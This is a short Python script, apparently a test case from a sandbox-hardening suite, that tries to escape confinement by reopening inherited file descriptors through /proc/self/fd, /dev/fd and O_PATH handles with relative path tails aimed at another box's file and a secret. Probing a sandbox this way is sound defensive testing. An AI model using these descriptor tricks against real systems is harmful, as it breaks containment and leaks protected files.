# SPDX-License-Identifier: Apache-2.0
# attack: the supervisor's descriptors by their names in /proc/self/fd
# class: reserved
# wins: leak
from kit import *

fds = reserved()
tried()
try:
    fds = sorted(set(fds) | {int(n) for n in os.listdir('/proc/self/fd')})
except OSError:
    pass
for fd in fds:
    for p in ('/proc/self/fd/%d', '/dev/fd/%d', '/proc/self/fd/%d/.'):
        for tail in ('/../box1/twin.txt', '/../../box1/twin.txt', '/rel_out', '', '/' + SECRET[1:]):
            took(openat(p % fd + tail))
        new = openat(p % fd, os.O_PATH)
        if new >= 0 and fd > 2:
            took(openat('../box1/twin.txt', 0, new))
